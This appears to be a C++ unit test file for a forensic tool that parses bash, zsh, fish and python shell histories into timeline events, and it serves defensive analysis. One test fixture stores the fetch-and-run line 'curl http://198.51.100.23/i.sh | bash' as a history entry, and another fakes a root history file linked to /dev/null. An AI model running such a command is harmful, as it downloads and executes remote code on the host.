#include "artefact/shell_history.h"

#include <fmt/format.h>
#include <gmock/gmock.h>

#include "core/file.h"
#include "support/fake_machine.h"

namespace icecore::artefact {
namespace {

// bash itself writes the file, with a command of several lines and one that looks like a time.
TEST(ShellHistory, ReadsWhatBashWrote) {
  const test::ScratchFolder scratch;
  ICECORE_ASSERT_OK(write_file_atomically(
      scratch / "run",
      "set -o history\nHISTFILE=history\nHISTTIMEFORMAT='%F '\nshopt -s cmdhist lithist\nhistory -c\n"
      "history -s 'curl http://198.51.100.23/i.sh | bash'\nhistory -s 'for x in 1 2\ndo echo $x\ndone'\nhistory -s '# a comment'\nhistory -w\n"));
  test::run_ok(fmt::format("cd {} && bash --norc run", scratch.path().string()));
  const std::string text = read_text_file(scratch / "history").value();
  const auto entries = parse_bash_history(text);
  std::vector<std::string> commands;
  const std::int64_t now = system_clock().now().seconds;
  for (const HistoryEntry& entry : entries) {
    commands.push_back(entry.command);
    ASSERT_TRUE(entry.time);
    EXPECT_NEAR(static_cast<double>(entry.time->seconds), static_cast<double>(now), 30.0);
    EXPECT_EQ(text.substr(entry.offset, 4), entry.command.substr(0, 4));
  }
  ASSERT_GE(commands.size(), 4U);
  commands.erase(commands.begin(), commands.end() - 4);
  EXPECT_THAT(commands,
              ::testing::ElementsAre("curl http://198.51.100.23/i.sh | bash", "for x in 1 2\ndo echo $x\ndone", "# a comment", "history -w"));
}

TEST(ShellHistory, WithoutTimesEveryLineIsACommand) {
  const auto entries = parse_bash_history("ls\n\n#comment\ncd /\n");
  ASSERT_EQ(entries.size(), 3U);
  EXPECT_FALSE(entries[0].time);
  EXPECT_EQ(entries[1].command, "#comment");
  EXPECT_EQ(entries[2].line, 4U);
}

// zshmisc(1), EXTENDED_HISTORY, and fish's documented file.
TEST(ShellHistory, ReadsZshAndFish) {
  const auto zsh = parse_zsh_history(": 1764000000:5;echo a; echo b\n: 1764000001:0;for x\\\ndo\\\ndone\nplain\n: caf\x83\xa3\n");
  ASSERT_EQ(zsh.size(), 4U);
  EXPECT_EQ(zsh[0].time->seconds, 1764000000);
  EXPECT_EQ(zsh[0].command, "echo a; echo b");
  EXPECT_EQ(zsh[1].command, "for x\ndo\ndone");
  EXPECT_FALSE(zsh[2].time);
  EXPECT_EQ(zsh[3].command, ": caf\x83");
  const auto fish = parse_fish_history("- cmd: echo a\\nb \\\\\n  when: 1764000000\n  paths:\n    - x\n- cmd: ls\n  when: x\n");
  ASSERT_EQ(fish.size(), 2U);
  EXPECT_EQ(fish[0].command, "echo a\nb \\");
  EXPECT_EQ(fish[0].time->seconds, 1764000000);
  EXPECT_FALSE(fish[1].time);
}

TEST(ShellHistory, ALinkToNullIsSeenAndNotFollowed) {
  test::FakeMachine fake;
  fake.root->file("/etc/passwd",
                  "root:x:0:0::/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
  fake.root->link("/root/.bash_history", "/dev/null");
  fake.root->file("/home/admin/.bash_history", "#1764000000\naws s3 sync s3://b .\n", {1764000100, 7});
  fake.root->file("/var/www/.python_history", "import os\n", {1764000200, 0});
  fake.start();
  const Subject subject{*fake.machine, fake.facts, fake.anomalies};
  const auto files = history_files(subject);
  ICECORE_ASSERT_OK(files);
  ASSERT_EQ(files->size(), 3U);
  EXPECT_EQ(files->at(0).link_target, "/dev/null");
  EXPECT_EQ(files->at(0).file.path, "/root/.bash_history");
  EventList events;
  ICECORE_ASSERT_OK(collect_shell_history(subject, events));
  ASSERT_EQ(events.events.size(), 2U);
  EXPECT_EQ(events.events[0].time, (Timestamp{1764000000, 0}));
  EXPECT_EQ(events.events[0].field("user"), "admin");
  EXPECT_EQ(events.events[0].where.line, 2U);
  EXPECT_EQ(events.events[1].time, (Timestamp{1764000200, 0}));
  EXPECT_EQ(events.events[1].description, "Content Modification Time");
  EXPECT_EQ(events.events[1].field("shell"), "python");
}

}  // namespace
}  // namespace icecore::artefact
